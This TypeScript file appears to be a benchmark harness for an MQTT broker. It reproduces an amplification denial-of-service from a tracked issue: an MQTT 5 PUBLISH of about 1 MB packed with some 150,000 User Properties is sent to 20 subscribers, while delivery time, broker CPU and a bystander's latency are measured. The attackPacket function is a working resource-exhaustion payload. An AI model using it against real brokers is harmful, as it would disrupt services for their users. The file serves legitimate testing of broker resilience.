import net from 'node:net'
import { connectClient, encode, PUBLISH, SUBACK } from './wire.js'

// The amplification attack of issue #12: one PUBLISH of ~1 MB carrying ~150,000
// MQTT 5 User Properties, sent 5 times (QoS 1) to 20 MQTT 5 subscribers (QoS 1,
// each with its own Subscription Identifier, so no two get the same bytes).
// Measured: the time from the first byte sent until every subscriber has every
// message, or the broker has refused all five; and a bystander's round trips
// (publish → its own subscription, one at a time) while that lasts.

export interface AmplificationOptions {
  subscribers: number
  messages: number
  userProperties: number
  timeoutMs: number
  /** the broker process's CPU seconds so far: read when the attack starts and when it ends */
  cpu?: () => number
}

export interface AmplificationResult {
  seconds: number
  /** the bystander's round trips during the attack, ms */
  p99: number
  max: number
  samples: number
  outcome: string
  /** CPU seconds the broker used from the first byte of the attack to the end (NaN without `cpu`) */
  brokerCpu: number
}

/** A PUBLISH (MQTT 5, QoS 1) with `n` User Properties u=v, built on the bytes. */
export function attackPacket(topic: string, n: number, messageId: number): Buffer {
  const props = Buffer.allocUnsafe(7 * n)
  for (let i = 0; i < n; i++) props.set([0x26, 0, 1, 0x75, 0, 1, 0x76], i * 7)
  const t = Buffer.from(topic)
  const body = Buffer.concat([
    Buffer.from([t.length >> 8, t.length & 0xff]),
    t,
    Buffer.from([messageId >> 8, messageId & 0xff]),
    varint(props.length),
    props,
    Buffer.from('payload'),
  ])
  return Buffer.concat([Buffer.from([0x32]), varint(body.length), body])
}

function varint(v: number): Buffer {
  const out: number[] = []
  do {
    let d = v % 128
    v = Math.floor(v / 128)
    if (v > 0) d |= 0x80
    out.push(d)
  } while (v > 0)
  return Buffer.from(out)
}

/**
 * Reads packet headers off a stream of large packets without buffering their
 * bodies: a PUBLISH up to its packet id, any other packet whole.
 */
class HeaderReader {
  private head: number[] = []
  private skip = 0

  constructor(private readonly onPacket: (type: number, head: number[], bodyStart: number) => void) {}

  push(chunk: Buffer): void {
    let i = 0
    while (i < chunk.length) {
      if (this.skip > 0) {
        const n = Math.min(this.skip, chunk.length - i)
        this.skip -= n
        i += n
        continue
      }
      const h = this.head
      h.push(chunk[i++]!)
      let remaining = 0
      let k = 1
      for (let mul = 1; k < h.length; k++, mul *= 128) {
        remaining += (h[k]! & 0x7f) * mul
        if ((h[k]! & 0x80) === 0) break
      }
      if (k >= h.length) continue // remaining length not complete yet
      const bodyStart = k + 1
      const body = h.length - bodyStart
      const type = h[0]! >> 4
      let need = remaining
      if (type === PUBLISH) {
        if (body < 2) continue
        need = Math.min(remaining, 2 + ((h[bodyStart]! << 8) | h[bodyStart + 1]!) + (((h[0]! >> 1) & 3) > 0 ? 2 : 0))
      }
      if (body < need) continue
      this.onPacket(type, h, bodyStart)
      this.skip = remaining - body
      this.head = []
    }
  }
}

/** An MQTT 5 client reading with a HeaderReader; resolves once CONNACK came. */
function connect5(
  port: number,
  clientId: string,
  onPacket: (type: number, head: number[], bodyStart: number, socket: net.Socket) => void,
): Promise<net.Socket> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1')
    socket.setNoDelay(true)
    let connected = false
    const reader = new HeaderReader((type, head, bodyStart) => {
      if (!connected && type === 2) {
        connected = true
        const code = head[bodyStart + 1]!
        if (code === 0) resolve(socket)
        else reject(new Error(`CONNACK ${code}: MQTT 5 refused`)) // Aedes 1.2 speaks MQTT 3.1.1 only
      } else onPacket(type, head, bodyStart, socket)
    })
    socket.on('data', (c: Buffer) => reader.push(c))
    socket.once('error', reject)
    socket.once('close', () => reject(new Error('closed before CONNACK')))
    socket.once('connect', () => socket.write(encode({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 5, clientId, clean: true, keepalive: 600 }, 5)))
  })
}

let run = 0

export async function amplification(port: number, o: AmplificationOptions): Promise<AmplificationResult> {
  const tag = `${process.pid}-${++run}`
  const expected = o.subscribers * o.messages
  let delivered = 0
  const acks: number[] = []
  let finished: () => void = () => {}
  const done = new Promise<void>((resolve) => {
    finished = resolve
  })
  const check = (): void => {
    if (acks.length === o.messages && (delivered === expected || acks.every((c) => c >= 0x80))) finished()
  }
  const subs: net.Socket[] = []
  for (let i = 0; i < o.subscribers; i++) {
    let subacked!: () => void
    const ready = new Promise<void>((r) => {
      subacked = r
    })
    const s = await connect5(port, `amp-sub-${tag}-${i}`, (type, head, bodyStart, socket) => {
      if (type === SUBACK) subacked()
      else if (type === PUBLISH) {
        const at = bodyStart + 2 + ((head[bodyStart]! << 8) | head[bodyStart + 1]!)
        socket.write(Buffer.from([0x40, 2, head[at]!, head[at + 1]!])) // PUBACK
        delivered++
        check()
      }
    })
    s.write(encode({ cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'amp/t', qos: 1 }], properties: { subscriptionIdentifier: i + 1 } }, 5))
    await ready
    subs.push(s)
  }
  const attacker = await connect5(port, `amp-pub-${tag}`, (type, head, bodyStart) => {
    if (type !== 4) return
    const remaining = head.length - bodyStart
    acks.push(remaining > 2 ? head[bodyStart + 2]! : 0) // PUBACK reason code (absent: success)
    check()
  })
  const by = await bystander(port, tag)
  const packets = Array.from({ length: o.messages }, (_, i) => attackPacket('amp/t', o.userProperties, i + 1))
  const rtts: number[] = []
  let attacking = true
  const loop = (async () => {
    while (attacking) rtts.push(await by.roundTrip())
  })()
  const cpu0 = o.cpu?.() ?? NaN
  const started = performance.now()
  for (const p of packets) attacker.write(p)
  const timer = setTimeout(finished, o.timeoutMs)
  await done
  clearTimeout(timer)
  const seconds = (performance.now() - started) / 1000
  const brokerCpu = (o.cpu?.() ?? NaN) - cpu0
  attacking = false
  await Promise.race([loop, new Promise((r) => setTimeout(r, 5000))]) // the last round trip, unless the broker is gone
  for (const s of [...subs, attacker]) s.destroy()
  by.close()
  rtts.sort((a, b) => a - b)
  const refused = acks.filter((c) => c >= 0x80)
  const outcome =
    acks.length < o.messages || (delivered < expected && refused.length < o.messages)
      ? `TIMEOUT after ${o.timeoutMs / 1000} s: ${delivered}/${expected} delivered, ${acks.length} PUBACKs`
      : refused.length === o.messages
        ? `refused (PUBACK 0x${refused[0]!.toString(16)}), ${delivered} delivered`
        : `delivered ${delivered}/${expected}`
  return {
    seconds,
    p99: rtts[Math.min(rtts.length - 1, Math.ceil(rtts.length * 0.99) - 1)] ?? NaN,
    max: rtts[rtts.length - 1] ?? NaN,
    samples: rtts.length,
    outcome,
    brokerCpu,
  }
}

/** A publisher and a subscriber (MQTT 3.1.1) on their own topic: one round trip at a time. */
async function bystander(port: number, tag: string): Promise<{ roundTrip(): Promise<number>; close(): void }> {
  let waiting: (() => void) | null = null
  let subacked!: () => void
  const ready = new Promise<void>((r) => {
    subacked = r
  })
  const sub = await connectClient(port, `amp-by-sub-${tag}`, (type) => {
    if (type === SUBACK) subacked()
    else if (type === PUBLISH) waiting?.()
  })
  sub.write(encode({ cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: `amp/bystander/${tag}`, qos: 0 }] }))
  await ready
  const pub = await connectClient(port, `amp-by-pub-${tag}`)
  const packet = encode({ cmd: 'publish', topic: `amp/bystander/${tag}`, payload: Buffer.from('ping'), qos: 0, retain: false, dup: false })
  return {
    roundTrip: () =>
      new Promise<number>((resolve) => {
        const t0 = performance.now()
        waiting = () => {
          waiting = null
          resolve(performance.now() - t0)
        }
        pub.write(packet)
      }),
    close: () => {
      sub.destroy()
      pub.destroy()
    },
  }
}
